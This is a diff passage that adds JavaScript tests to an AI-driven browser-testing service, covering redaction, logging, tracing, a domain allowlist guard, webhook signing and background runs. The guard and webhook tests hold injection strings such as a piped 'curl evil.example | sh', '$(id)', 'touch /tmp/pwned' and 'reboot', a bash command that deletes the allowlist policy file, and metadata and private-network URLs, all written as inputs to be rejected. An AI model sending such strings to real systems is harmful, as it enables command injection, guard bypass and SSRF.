+  const computerUse = new PuppeteerComputerUse({ apiKey: 'test-key', testId, options: {} });
+  computerUse.page = { keyboard: { type: async () => {} } };
+  testRegistry.attach(testId, computerUse);
+  await computerUse.executeComputerUseTool({ name: 'computer', input: { action: 'type', text: '4000 0566 5566 5556' } });
+
+  const events = JSON.stringify(testRegistry.getEvents(testId));
+  const status = testRegistry.getStatus(testId);
+  const clean = !events.includes('5556') && events.includes('Typed: [redacted:card]') && !status.log.includes('5556') && status.log.includes('[redacted:card]');
+  console.log(`${check(clean)} Typed card number redacted in log and events:`, status.log.trim().split('\n').pop());
+
+  await runHistory.save({ testId: 'redaction-history', client: 'anonymous', status: 'passed', instruction: 'Sign up as jane.doe@example.com', createdAt: '2025-01-09T02:00:00Z', verdict: { passed: true, summary: 'Welcome email sent to jane.doe@example.com' } });
+  const stored = await runHistory.get('redaction-history');
+  const summary = (await runHistory.list({ limit: 100 })).find(run => run.testId === 'redaction-history');
+  console.log(`${check(!JSON.stringify(stored).includes('jane.doe') && summary.instruction === 'Sign up as [redacted:email]')} Stored history redacted:`, summary.instruction);
+  await runHistory.delete('redaction-history');
+}
+
+async function testRunLog() {
+  console.log('\n🧾 Testing Structured Run Log');
+
+  const RunLog = require('../netlify/functions/lib/run-log');
+  const PuppeteerComputerUse = require('../netlify/functions/lib/puppeteer-computer-use');
+
+  // Capture what the run writes to stdout
+  const lines = [];
+  const write = process.stdout.write;
+  process.stdout.write = chunk => lines.push(String(chunk)) && true;
+
+  let computerUse;
+  try {
+    computerUse = new PuppeteerComputerUse({ apiKey: 'test-key', testId: 'run-log-test', options: {} });
+    computerUse.page = {
+      screenshot: async () => Buffer.from('fake').toString('base64'),
+      mouse: { click: async () => {} }
+    };
+    computerUse.waitAfterAction = async () => {};
+    const responses = [
+      { model: 'claude-sonnet-4-20250514', stop_reason: 'tool_use', usage: { input_tokens: 1200, output_tokens: 40 }, content: [{ type: 'text', text: 'Clicking sign up' }, { type: 'tool_use', id: 'c1', name: 'computer', input: { action: 'click', coordinate: [100, 200] } }] },
+      { content: [{ type: 'tool_use', id: 'r1', name: 'report_result', input: { passed: true, summary: 'Signed up', observations: [], failedExpectations: [] } }] }
+    ];
+    computerUse.anthropic.messages.create = async () => responses.shift();
+    await computerUse.runClaudeWithComputerUse('sign up');
+  } finally {
+    process.stdout.write = write;
+  }
+
+  const events = computerUse.runLog.events;
+  const types = [...new Set(events.map(event => event.type))];
+  console.log(`${check(['log', 'model_response', 'tool_call', 'tool_result'].every(type => types.includes(type)))} Model responses, tool calls and tool results recorded:`, types);
+
+  const response = events.find(event => event.type === 'model_response');
+  const result = events.find(event => event.type === 'tool_result');
+  const fields = ['timestamp', 'level', 'iteration', 'type', 'message', 'payload', 'duration'].every(field => field in response);
+  console.log(`${check(fields && response.iteration === 1 && response.payload.inputTokens === 1200 && response.payload.toolCalls[0] === 'computer')} Model response carries model, tokens and requested tools:`, response.payload);
+  console.log(`${check(result.payload.result === 'Clicked at (100, 200)' && typeof result.duration === 'number')} Tool result carries its outcome and duration:`, result.duration);
+
+  const parsed = lines.filter(line => line.startsWith('{')).map(line => JSON.parse(line));
+  console.log(`${check(parsed.length === events.length && parsed.every(event => event.testId === 'run-log-test'))} Every event written to stdout as a JSON line: ${parsed.length}`);
+
+  const rendered = computerUse.log.includes('Claude: Clicking sign up') && !computerUse.log.includes('Tool call:');
+  console.log(`${check(rendered)} Text log rendered from info-level events only`);
+
+  const textLog = new RunLog('run-log-text', { format: 'text' });
+  const printed = [];
+  const log = console.log;
+  console.log = (...args) => printed.push(args.join(' '));
+  try {
+    textLog.add({ message: 'Navigating to app.giftround.com' });
+    textLog.add({ message: 'Tool call: computer click', level: 'debug', type: 'tool_call' });
+  } finally {
+    console.log = log;
+  }
+  console.log(`${check(printed.length === 1 && printed[0] === '[run-log-text] Navigating to app.giftround.com')} RUN_LOG_FORMAT=text prints readable lines:`, printed);
+}
+
+async function testTracing() {
+  console.log('\n🔭 Testing Tracing');
+
+  const { InMemorySpanExporter } = require('@opentelemetry/sdk-trace-base');
+  const tracing = require('../netlify/functions/lib/tracing');
+  const testRegistry = require('../netlify/functions/lib/test-registry');
+  const PuppeteerComputerUse = require('../netlify/functions/lib/puppeteer-computer-use');
+
+  console.log(`${check(!tracing.isEnabled() && !tracing.startSpan('test.run').isRecording())} Tracing off without an exporter`);
+
+  const exporter = tracing.useExporter(new InMemorySpanExporter());
+  const root = tracing.startSpan('test.run', null, { 'test.id': 'tracing-test' });
+
+  const write = process.stdout.write;
+  process.stdout.write = () => true;
+  try {
+    const computerUse = new PuppeteerComputerUse({ apiKey: 'test-key', testId: 'tracing-test', options: {}, span: root });
+    computerUse.page = {
+      screenshot: async () => Buffer.from('fake').toString('base64'),
+      mouse: { click: async () => {} }
+    };
+    const responses = [
+      { id: 'msg_1', model: 'claude-sonnet-4-20250514', stop_reason: 'tool_use', usage: { input_tokens: 1200, output_tokens: 40 }, content: [{ type: 'tool_use', id: 'c1', name: 'computer', input: { action: 'click', coordinate: [100, 200] } }] },
+      { content: [{ type: 'tool_use', id: 'r1', name: 'report_result', input: { passed: true, summary: 'Signed up', observations: [], failedExpectations: [] } }] }
+    ];
+    computerUse.anthropic.messages.create = async () => responses.shift();
+    await computerUse.runClaudeWithComputerUse('sign up');
+  } finally {
+    process.stdout.write = write;
+    tracing.endSpan(root);
+  }
+
+  const spans = exporter.getFinishedSpans();
+  const names = [...new Set(spans.map(span => span.name))];
+  const expected = ['test.run', 'claude.iteration', 'screenshot', 'chat claude-sonnet-4-20250514', 'tool computer', 'wait', 'sleep'];
+  console.log(`${check(expected.every(name => names.includes(name)))} Spans recorded for iterations, Claude calls, tools and waits:`, names);
+
+  const traceId = root.spanContext().traceId;
+  console.log(`${check(spans.every(span => span.spanContext().traceId === traceId))} All spans belong to the run's trace`);
+
+  const byName = name => spans.find(span => span.name === name);
+  const parentOf = span => span.parentSpanContext && span.parentSpanContext.spanId;
+  const iteration = byName('claude.iteration');
+  const chat = byName('chat claude-sonnet-4-20250514');
+  const tool = byName('tool computer');
+  const nested = parentOf(iteration) === root.spanContext().spanId
+    && parentOf(chat) === iteration.spanContext().spanId
+    && parentOf(tool) === iteration.spanContext().spanId
+    && parentOf(byName('wait')) === tool.spanContext().spanId;
+  console.log(`${check(nested)} Spans nest under run, iteration and tool`);
+
+  const attributes = chat.attributes;
+  const genAi = attributes['gen_ai.request.model'] === 'claude-sonnet-4-20250514'
+    && attributes['gen_ai.usage.input_tokens'] === 1200
+    && attributes['gen_ai.usage.output_tokens'] === 40
+    && attributes['gen_ai.response.finish_reasons'][0] === 'tool_use';
+  console.log(`${check(genAi)} Claude span carries model and token usage:`, attributes);
+  console.log(`${check(tool.attributes['computer.action'] === 'click' && tool.duration[0] + tool.duration[1] > 0)} Tool span carries the action and latency`);
+
+  const failed = tracing.startSpan('test.run');
+  tracing.endSpan(failed, new Error('Navigation failed'));
+  const failedSpan = exporter.getFinishedSpans().find(span => span.spanContext().spanId === failed.spanContext().spanId);
+  console.log(`${check(failedSpan.status.code === 2 && failedSpan.events[0].name === 'exception')} Failed runs mark their span as an error`);
+
+  testRegistry.create('tracing-status', { instruction: 'sign up', executionMode: 'puppeteer' });
+  testRegistry.setTraceId('tracing-status', traceId);
+  console.log(`${check(testRegistry.getStatus('tracing-status').traceId === traceId)} Status reports the trace id`);
+
+  // Back to the configured exporter (none in tests)
+  tracing.provider = null;
+  tracing.exporter = null;
+}
+
+async function testDomainGuard() {
+  console.log('\n🛡️ Testing Domain Guard');
+
+  const DomainGuard = require('../netlify/functions/lib/domain-guard');
+  const allowedHosts = ['app.giftround.com', '*.giftround-cdn.com'];
+
+  const urlTests = [
+    { url: 'https://app.giftround.com/signup', allowed: true },
+    { url: 'https://APP.giftround.com:443/', allowed: true },
+    { url: 'https://images.giftround-cdn.com/logo.png', allowed: true },
+    { url: 'https://giftround.com/', allowed: false },
+    { url: 'https://app.giftround.com.evil.example/', allowed: false },
+    { url: 'javascript:alert(1)', allowed: false },
+    { url: 'about:blank', allowed: true }
+  ];
+
+  for (const test of urlTests) {
+    const allowed = DomainGuard.isAllowedUrl(test.url, allowedHosts);
+    console.log(`Navigation test ${check(allowed === test.allowed)}:`, test.url, '-> allowed:', allowed);
+  }
+
+  console.log('Target validation:', DomainGuard.validateTarget('evil.example.com', allowedHosts));
+
+  const targets = [
+    { target: 'app.giftround.com', valid: true },
+    { target: 'app.giftround.com:8443', valid: true },
+    { target: 'https://app.giftround.com', valid: false },
+    { target: 'app.giftround.com/signup', valid: false },
+    { target: 'app.giftround.com/"; curl evil.example | sh; "', valid: false },
+    { target: 'app.giftround.com $(id)', valid: false }
+  ];
+  for (const test of targets) {
+    const valid = DomainGuard.validateTarget(test.target, allowedHosts) === null;
+    console.log(`Target test ${check(valid === test.valid)}:`, test.target, '-> valid:', valid);
+  }
+  console.log('Chrome policy:', JSON.stringify(DomainGuard.getChromePolicy(allowedHosts)));
+
+  // Puppeteer guard: every frame and subresource, plus popups
+  const { EventEmitter } = require('events');
+  const PuppeteerComputerUse = require('../netlify/functions/lib/puppeteer-computer-use');
+  const ComputerUse = require('../netlify/functions/lib/computer-use');
+
+  // Run events go to stdout as JSON lines; keep them out of the test output
+  const write = process.stdout.write;
+  process.stdout.write = () => true;
+  let outcomes, popupClosed, bashOffered, bashExecuted, bashResult, keyResult, injectedResult;
+  const runs = [];
+  try {
+    const guarded = new PuppeteerComputerUse({ apiKey: 'test-key', testId: 'guard-test', options: { allowedHosts } });
+    const mainTarget = { type: () => 'page' };
+    guarded.page = Object.assign(new EventEmitter(), {
+      setRequestInterception: async () => {},
+      setBypassServiceWorker: async () => {},
+      target: () => mainTarget
+    });
+    guarded.browser = new EventEmitter();
+    await guarded.installNavigationGuard();
+
+    const send = (url, navigation = false) => {
+      let outcome = null;
+      guarded.page.emit('request', {
+        url: () => url,
+        isNavigationRequest: () => navigation,
+        continue: () => { outcome = 'continued'; },
+        abort: () => { outcome = 'aborted'; }
+      });
+      return outcome;
+    };
+    outcomes = [
+      send('https://app.giftround.com/api/cards'),
+      send('https://images.giftround-cdn.com/logo.png'),
+      send('data:image/png;base64,AAAA'),
+      send('https://tracker.evil.example/pixel.gif'),
+      send('https://evil.example/frame', true)
+    ];
+
+    let closed = false;
+    guarded.browser.emit('targetcreated', { type: () => 'page', url: () => 'https://evil.example/popup', page: async () => ({ close: async () => { closed = true; } }) });
+    await new Promise(resolve => setImmediate(resolve));
+    popupClosed = closed && guarded.blockedNavigations.some(blocked => blocked.url === 'https://evil.example/popup');
+
+    // Docker guard: no shell, even from a replayed trace
+    let executed = false;
+    const docker = new ComputerUse({ apiKey: 'test-key', testId: 'guard-docker', dockerManager: { execute: async () => { executed = true; return '[]'; } }, options: { allowedHosts, recordTrace: false } });
+    bashOffered = docker.getComputerUseTools().some(tool => tool.name === 'bash');
+    bashResult = await docker.executeComputerUseTool({ name: 'bash', input: { command: 'rm -f /etc/opt/chrome/policies/managed/allowlist.json' } });
+    bashExecuted = executed;
+
+    // xdotool gets its arguments as argv, and malformed input never reaches it
+    const xdotool = new ComputerUse({ apiKey: 'test-key', testId: 'guard-xdotool', dockerManager: { execute: async () => '[]', run: async args => { runs.push(args); return ''; } }, options: { recordTrace: false } });
+    keyResult = await xdotool.executeComputerUseTool({ name: 'computer', input: { action: 'key', key: 'ctrl+a' } });
+    injectedResult = await xdotool.executeComputerUseTool({ name: 'computer', input: { action: 'key', key: 'Return; touch /tmp/pwned' } });
+    await xdotool.executeComputerUseTool({ name: 'computer', input: { action: 'click', coordinate: ['1;reboot', 2] } });
+  } finally {
+    process.stdout.write = write;
+  }
+
+  console.log(`${check(outcomes.join(',') === 'continued,continued,continued,aborted,aborted')} Subresources and frame navigations off the allowlist blocked:`, outcomes);
+  console.log(`${check(popupClosed)} Popups closed and recorded`);
+  console.log(`${check(!bashOffered && !bashExecuted && bashResult.startsWith('Error'))} bash withheld while the allowlist is enforced:`, bashResult);
+  console.log(`${check(runs.length === 1 && runs[0].join(' ') === 'xdotool key -- ctrl+a' && keyResult === 'Pressed key: ctrl+a')} xdotool run with argv, no shell:`, runs);
+  console.log(`${check(injectedResult.startsWith('Error'))} Malformed key and coordinate never reach xdotool:`, injectedResult);
+}
+
+async function testWebhookNotifier() {
+  console.log('\n📬 Testing Webhook Notifier');
+
+  const http = require('http');
+  const WebhookNotifier = require('../netlify/functions/lib/webhook-notifier');
+
+  console.log('Invalid callbackUrl:', WebhookNotifier.validateUrl('ftp://example.com'));
+  console.log('Valid callbackUrl:', WebhookNotifier.validateUrl('https://ci.example.com/hooks/test') === null);
+
+  const internal = ['http://localhost/hook', 'http://127.0.0.1:8080/', 'http://169.254.169.254/latest/meta-data', 'http://10.1.2.3/', 'http://192.168.0.10/', 'http://[::1]/', 'http://[::ffff:127.0.0.1]/'];
+  const rejected = internal.filter(url => WebhookNotifier.validateUrl(url));
+  console.log(`${check(rejected.length === internal.length)} Local, private and metadata callback URLs rejected: ${rejected.length}/${internal.length}`);
+
+  // Local receiver that fails the first delivery and verifies the signature on the next
+  let requests = 0;
+  let signatureValid = false;
+  const server = http.createServer((req, res) => {
+    let body = '';
+    req.on('data', chunk => { body += chunk; });
+    req.on('end', () => {
+      requests++;
+      const expected = WebhookNotifier.sign(body, 'test-secret', req.headers['x-webhook-timestamp']);
+      signatureValid = req.headers['x-webhook-signature'] === expected;
+      res.statusCode = requests === 1 ? 500 : 200;
+      res.end();
+    });
+  });
+
+  await new Promise(resolve => server.listen(0, resolve));
+  const url = `http://127.0.0.1:${server.address().port}/hook`;
+
+  try {
+    // Names are checked once resolved, on the lookup the connection uses
+    const lookupError = await new Promise(resolve => WebhookNotifier.lookupPublic('localhost', {}, error => resolve(error)));
+    console.log(`${check(lookupError && lookupError.code === 'ERR_NON_PUBLIC_ADDRESS')} Host resolving to loopback refused:`, lookupError && lookupError.message);
+
+    // Internal receivers must be listed explicitly
+    process.env.WEBHOOK_ALLOWED_HOSTS = '127.0.0.1';
+    console.log(`${check(WebhookNotifier.validateUrl('https://ci.example.com/hooks/test') !== null)} WEBHOOK_ALLOWED_HOSTS restricts callback hosts`);
+
+    const delivery = await WebhookNotifier.deliver(url, { testId: 'webhook-test', status: 'passed' }, {
+      secret: 'test-secret',
+      backoffMs: 10
+    });
+
+    console.log(`${check(delivery.delivered)} Webhook delivered after ${delivery.attempts.length} attempts`);
+    console.log(`${check(signatureValid)} Webhook signature verified`);
+  } finally {
+    delete process.env.WEBHOOK_ALLOWED_HOSTS;
+    server.close();
+  }
+}
+
+async function testBackgroundRuns() {
+  console.log('\n🌙 Testing Background Runs');
+
+  const http = require('http');
+  const testRegistry = require('../netlify/functions/lib/test-registry');
+  const BackgroundTrigger = require('../netlify/functions/lib/background-trigger');
+  const { BlobJsonStore, MemoryBlobStore } = require('../netlify/functions/lib/json-store');
+  const { handler } = require('../netlify/functions/test-website');
+  const background = require('../netlify/functions/test-run-background').handler;
+
+  // Local stand-in for the site's test-run-background endpoint: records triggers only
+  const triggers = [];
+  const server = http.createServer((req, res) => {
+    let body = '';
+    req.on('data', chunk => { body += chunk; });
+    req.on('end', () => {
+      triggers.push({ path: req.url, headers: req.headers, body });
+      res.statusCode = 202;
+      res.end();
+    });
+  });
+  await new Promise(resolve => server.listen(0, resolve));
+
+  // A shared store of its own, without the runs other tests left queued
+  await testRegistry.flush();
+  const sharedStore = testRegistry.getStore();
+  testRegistry.useStore(new BlobJsonStore(new MemoryBlobStore()));
+
+  process.env.RUN_IN_BACKGROUND = 'true';
+  process.env.RUN_TRIGGER_SECRET = 'run-secret';
+  process.env.URL = `http://127.0.0.1:${server.address().port}`;
+
+  // Each trigger is replayed as the background function invocation it would start
+  const invoke = trigger => background({ headers: trigger.headers, body: trigger.body });
+
+  try {
+    const accepted = await handler(createMockEvent({ instruction: 'take a screenshot of the homepage' }, { clientIP: '10.0.1.1' }), createMockContext());
+    const { testId, status } = JSON.parse(accepted.body);
+    console.log(`${check(accepted.statusCode === 202 && status === 'queued' && !testRegistry.get(testId))} Accepted test handed off, not run here:`, accepted.statusCode, status);
+    console.log(`${check(triggers.length === 1 && triggers[0].path === '/.netlify/functions/test-run-background' && JSON.parse(triggers[0].body).testId === testId)} test-run-background triggered:`, triggers.length);
+
+    const queued = JSON.parse((await handler(createMockGetEvent({ testId }), createMockContext())).body);
+    console.log(`${check(queued.status === 'queued' && queued.queuePosition === 1)} Status and queue position read from the shared store:`, queued.status, queued.queuePosition);
+
+    const { SharedTestQueue } = require('../netlify/functions/lib/test-queue');
+    const sharedQueue = new SharedTestQueue(testRegistry);
+    sharedQueue.config.maxQueueLength = 1;
+    const waiting = await sharedQueue.getLength();
+    console.log(`${check(waiting === 1 && await sharedQueue.isFull())} Tests waiting in other instances counted:`, waiting);
+
+    const traversal = await handler(createMockGetEvent({ testId: '../../package' }), createMockContext());
+    console.log(`${check(traversal.statusCode === 404 && !testRegistry.isValidId('../../package'))} Ids outside the store rejected:`, traversal.statusCode);
+
+    const forged = await background({ headers: {}, body: triggers[0].body });
+    console.log(`${check(forged.statusCode === 401)} Unsigned trigger rejected:`, forged.statusCode);
+
+    // Cancelled while queued: the background invocation picks the request up
+    const second = JSON.parse((await handler(createMockEvent({ instruction: 'open the signup page' }, { clientIP: '10.0.1.2' }), createMockContext())).body);
+    const [cancelled] = await Promise.all([
+      handler(createMockEvent({}, { query: { testId: second.testId, action: 'cancel' } }), createMockContext()),
+      invoke(triggers[1])
+    ]);
+    console.log(`${check(cancelled.statusCode === 200 && JSON.parse(cancelled.body).status === 'cancelled')} Queued test cancelled from another instance:`, cancelled.statusCode, JSON.parse(cancelled.body).status);
+
+    // The browser cannot start here, so the run fails, but it runs to the end, once
+    const [ran, duplicate] = await Promise.all([invoke(triggers[0]), invoke(triggers[0])]);
+    console.log(`${check(duplicate.statusCode === 404)} Repeated trigger does not run the test again:`, duplicate.statusCode);
+    const finished = JSON.parse((await handler(createMockGetEvent({ testId }), createMockContext())).body);
+    console.log(`${check(ran.statusCode === 200 && finished.status === 'failed' && finished.completedAt)} Test ran in the background function:`, ran.statusCode, finished.status);
+
+    const repeated = await invoke(triggers[0]);
+    console.log(`${check(repeated.statusCode === 404)} Started test not run twice:`, repeated.statusCode);
+
+    // Suites run one case per invocation
+    const suite = JSON.parse((await handler(createMockEvent({
+      name: 'Background pack',
+      stopOnFailure: true,
+      tests: [
+        { name: 'Homepage', instruction: 'take a screenshot of the homepage' },
+        { name: 'Signup', instruction: 'open the signup page' }
+      ]
+    }, { clientIP: '10.0.1.3' }), createMockContext())).body);
+    await invoke(triggers[2]);
+    console.log(`${check(triggers.length === 4 && JSON.parse(triggers[3].body).suiteId === suite.suiteId)} Next suite case triggered:`, triggers.length);
+    await invoke(triggers[3]);
+
+    const report = JSON.parse((await handler(createMockGetEvent({ suiteId: suite.suiteId }), createMockContext())).body);
+    console.log(`${check(report.status === 'failed' && report.cases[0].status === 'failed' && report.cases[1].status === 'skipped')} Suite finished across invocations:`, report.status, report.cases.map(testCase => testCase.status));
+
+    // No way to reach the background function: the test fails at once
+    process.env.URL = 'http://127.0.0.1:1';
+    const unreachable = await handler(createMockEvent({ instruction: 'open the signup page' }, { clientIP: '10.0.1.4' }), createMockContext());
+    console.log(`${check(unreachable.statusCode === 500)} Unreachable background function reported:`, unreachable.statusCode);
+
+    // Signed like webhooks; the body cannot be swapped
+    const body = JSON.stringify({ testId });
+    const headers = Object.fromEntries(Object.entries(BackgroundTrigger.sign(body, 'run-secret')).map(([name, value]) => [name.toLowerCase(), value]));
+    const tampered = BackgroundTrigger.verify({ headers, body: JSON.stringify({ testId: 'other' }) }, 'run-secret');
+    console.log(`${check(BackgroundTrigger.verify({ headers, body }, 'run-secret') && !tampered)} Trigger signature verified, tampered body rejected`);
+  } finally {
+    delete process.env.RUN_IN_BACKGROUND;
+    delete process.env.RUN_TRIGGER_SECRET;
+    delete process.env.URL;
+    testRegistry.useStore(sharedStore);
+    server.close();
+  }
 }
 
 // Run all tests
@@ -174,16 +1702,64 @@ async function main() {
   await runTests();
   await testErrorHandling();
   await testRateLimiter();
+  await testRateLimitAlgorithms();
+  await testRateLimitStores();
+  await testApiKeyAuth();
+  await testTestQueue();
+  await testCancellation();
+  await testVerdict();
+  await testActionTrace();
+  await testRunHistory();
+  await testScriptExport();
+  await testReportFormats();
+  await testHtmlReport();
+  await testAnimation();
+  await testMonitors();
+  await testTestDefinitions();
+  await testInstructionTemplates();
+  await testSecretVault();
+  await testRedaction();
+  await testRunLog();
+  await testTracing();
+  await testDomainGuard();
+  await testWebhookNotifier();
+  await testBackgroundRuns();
 }
 
 if (require.main === module) {
-  main().catch(console.error);
+  main().catch(error => {
+    console.error(error);
+    process.exitCode = 1;
+  });
 }
 
 module.exports = {
   runTests,
   testErrorHandling,
   testRateLimiter,
+  testRateLimitAlgorithms,
+  testRateLimitStores,
+  testApiKeyAuth,
+  testTestQueue,
+  testCancellation,
+  testVerdict,
+  testActionTrace,
+  testRunHistory,
+  testScriptExport,
+  testReportFormats,
+  testHtmlReport,
+  testAnimation,
+  testMonitors,
+  testTestDefinitions,
+  testInstructionTemplates,
+  testSecretVault,
+  testRedaction,
+  testRunLog,
+  testTracing,
+  testDomainGuard,
+  testWebhookNotifier,
+  testBackgroundRuns,
   createMockEvent,
+  createMockGetEvent,
   createMockContext
 };
\ No newline at end of file